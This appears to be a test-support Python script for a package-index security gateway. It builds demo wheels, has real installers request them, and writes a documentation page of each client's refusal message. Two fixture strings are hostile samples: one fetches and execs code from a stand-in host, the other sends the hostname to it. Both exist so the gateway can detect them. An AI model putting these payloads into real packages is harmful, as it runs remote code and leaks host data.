"""Each client before each refusal: what `docs/clients.md` says, and what its test compares.

python -m tests.support.matrix    # writes docs/clients.md from real clients
"""

from __future__ import annotations

import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from tests.support.distributions import make_wheel
from tests.support.installers import CLIENTS, Asked, ask
from tests.support.server import Server, serving
from tests.support.upstream_server import Listed, LocalIndex

PAGE = Path(__file__).parents[2] / "docs" / "clients.md"
_STAGE = 'import urllib.request\nexec(urllib.request.urlopen("http://c.example.invalid/a").read())\n'
_BEACON = (
    'import socket, urllib.request\nurllib.request.urlopen("http://c.example.invalid/?h=" + socket.gethostname())\n'
)
_POLICY = """\
[age]
minimum = "3d"
[private]
names = ["billing-demo"]
reason = "ours; see the handbook"
[[deny]]
project = "denied-demo"
reason = "use the other one"
"""
_HEAD = """\
# What each client says

<!-- Written by `python -m tests.support.matrix` from what real clients print; a test compares. -->

Each client was asked for one requirement through the gateway, and this is the line in which a person reads why it was
refused. `pip`, `pip download`, `uv`, `uv lock`, `Poetry` (`poetry lock`), `PDM` (`pdm lock`) and `pip-tools`
(`pip-compile`) are those that [`requirements/`](../requirements) locks; `pip 23.2` is one of 2023.
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """A refusal. ``text`` is what a person must read, whichever client they use."""

    title: str
    requirement: str
    text: str
    about: str
    clients: tuple[str, ...] = CLIENTS


CASES = (
    Case(
        title="Every release is malicious",
        requirement="evil-demo",
        text="blocked: second-stage in evil_demo/__init__.py:2",
        about="The page lists its files as they are, so that every client asks for one and is told.",
    ),
    Case(
        title="The pinned release is malicious",
        requirement="half-demo==2.0",
        text="blocked: second-stage in half_demo/__init__.py:2",
        about="Whoever pins it, in a requirement or a lock file, is told; whoever does not is given the older one.",
    ),
    Case(
        title="Held for a person",
        requirement="held-demo==1.0",
        text="quarantined: beacon in held_demo/__init__.py:2",
        about="A reviewer may release it; the next request is then served.",
    ),
    Case(
        title="Refused by the policy",
        requirement="denied-demo==1.0",
        text="use the other one",
        about="The policy's own words.",
        clients=("pip", "pip 23.2", "uv", "Poetry", "PDM"),
    ),
    Case(
        title="Too young",
        requirement="young-demo==1.0",
        text="young-demo 1.0",
        about="By the upstream's time of upload.",
        clients=("pip", "pip 23.2", "uv", "Poetry", "PDM"),
    ),
    Case(
        title="A private name that is not published here yet",
        requirement="billing-demo",
        text="publish it here first",
        about="The upstream is never asked. Installers are given a page with one entry, whose refusal says why.",
        clients=("pip", "pip 23.2", "uv", "Poetry", "PDM"),
    ),
)


@contextmanager
def shop(folder: Path) -> Iterator[Server]:
    """A gateway before an index in which each case lives."""
    behind, policy = LocalIndex(), folder / "policy.toml"
    policy.write_text(_POLICY, encoding="utf-8")
    for name, version, source in (
        ("evil-demo", "1.0", _STAGE),
        ("half-demo", "1.0", "x = 1\n"),
        ("half-demo", "2.0", _STAGE),
        ("held-demo", "1.0", _BEACON),
        ("denied-demo", "1.0", "x = 1\n"),
        ("billing-demo", "1.0", "x = 1\n"),
    ):
        behind.add(make_wheel(name, version, {f"{name.replace('-', '_')}/__init__.py": source}))
    young = f"{datetime.now(UTC) - timedelta(hours=30):%Y-%m-%dT%H:%M:%S.000000Z}"
    behind.put(Listed(built=make_wheel("young-demo", "1.0", {"young_demo.py": "x = 1\n"}), upload_time=young))
    with (
        behind.serving_in_thread() as url,
        serving(folder / "data", url, "--policy", str(policy)) as server,
    ):
        for requirement in ("evil-demo", "half-demo==1.0", "half-demo==2.0", "held-demo"):
            ask(
                "pip download", requirement, server.index, folder / requirement
            )  # who only reads metadata judges nothing
        yield server


def asked(case: Case, client: str, server: Server, folder: Path) -> Asked:
    """Ask in a folder of its own."""
    safe = client.replace(" ", "-")
    return ask(client, case.requirement, server.index, folder / f"{safe}-{case.requirement.partition('=')[0]}")


def row(client: str, line: str) -> str:
    """A row of a case's table."""
    said = line.replace("|", "\\|").replace("`", "'")
    return f"| {client} | `{said}` |"


def main() -> None:
    """Write the page."""
    parts = [_HEAD]
    with tempfile.TemporaryDirectory() as name, shop(Path(name)) as server:
        for case in CASES:
            rows = [
                row(client, asked(case, client, server, Path(name)).line_with(case.text)) for client in case.clients
            ]
            table = "\n".join(["| client | says |", "| --- | --- |", *rows])
            parts.append(f"## {case.title}\n\n{case.about}\n\n{table}\n")
    PAGE.write_text("\n".join(parts), encoding="utf-8")


if __name__ == "__main__":
    main()
